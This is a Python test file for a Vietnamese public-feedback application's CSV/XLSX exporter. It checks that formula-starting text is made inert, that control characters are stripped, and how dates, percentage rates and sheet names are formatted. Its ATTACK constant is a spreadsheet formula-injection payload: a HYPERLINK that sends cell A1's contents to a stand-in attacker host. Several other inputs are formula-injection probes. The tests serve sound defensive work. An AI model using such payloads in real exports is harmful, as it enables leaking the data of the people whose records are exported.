"""The one CSV/XLSX writer: citizens' text comes out inert, rates and dates read as an office expects."""
import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from hailong import exports
from hailong.exports import Column, Title

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture(autouse=True)
def _request(app):
    with app.test_request_context("/"):
        yield


@pytest.mark.parametrize("text", [ATTACK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_come_out_inert_in_csv(text):
    rows = list(csv.reader(io.StringIO(exports.csv_text(["Nội dung"], [[text]]).lstrip("\ufeff"))))
    assert rows[1][0] == "'" + text


def test_formula_comes_out_inert_in_xlsx_and_control_characters_are_dropped():
    body = exports.xlsx_bytes([("Sổ", ["Người gửi", "Nội dung"], [["Lê\x00Văn\x07 Ba", ATTACK]])])
    sheet = load_workbook(io.BytesIO(body))["Sổ"]
    name, content = sheet["A2"], sheet["B2"]
    assert content.data_type == "s" and content.value == "'" + ATTACK  # a string, never a formula
    assert name.value == "LêVăn Ba"


def test_rates_are_percent_cells_cut_not_rounded_and_dates_are_date_cells():
    title = Title(heading="Sổ theo dõi PAKN", unit="UBND xã Thử", period="Quý IV năm 2026", made=date(2026, 12, 2))
    columns = [Column("Ngày tiếp nhận", "date"), Column("Tỷ lệ", "rate"), Column("Số lượng", "count"), "Mã tra cứu"]
    body = exports.xlsx_bytes([("Bảng", columns, [[date(2026, 10, 5), 0.94966, 29, "AB12-CD34"],
                                                  [datetime(2026, 10, 6, 8, 30), None, 0, "x"]])], title=title)
    sheet = load_workbook(io.BytesIO(body))["Bảng"]
    assert sheet["A1"].value == "Sổ theo dõi PAKN" and "UBND xã Thử" in sheet["A2"].value
    assert "Quý IV năm 2026" in sheet["A3"].value and "02/12/2026" in sheet["C3"].value
    header = exports.HEADER_ROW
    assert sheet.freeze_panes == f"A{header + 1}" and sheet.cell(header, 1).value == "Ngày tiếp nhận"
    day, rate = sheet.cell(header + 1, 1), sheet.cell(header + 1, 2)
    assert day.is_date and day.number_format == "dd/mm/yyyy" and day.value.date() == date(2026, 10, 5)
    assert rate.number_format == "0.0%" and rate.value == pytest.approx(0.949)  # 94,9%, never 95,0%
    assert sheet.cell(header + 2, 1).number_format == "dd/mm/yyyy hh:mm"
    assert sheet.cell(header + 1, 4).value == "AB12-CD34"
    assert sheet.column_dimensions["A"].width >= len("Ngày tiếp nhận")


def test_sheet_names_excel_refuses_are_mended():
    body = exports.xlsx_bytes([("Quý 4/2026: [tổng]?", ["a"], [])])
    assert load_workbook(io.BytesIO(body)).sheetnames == ["Quý 4 2026   tổng  "]
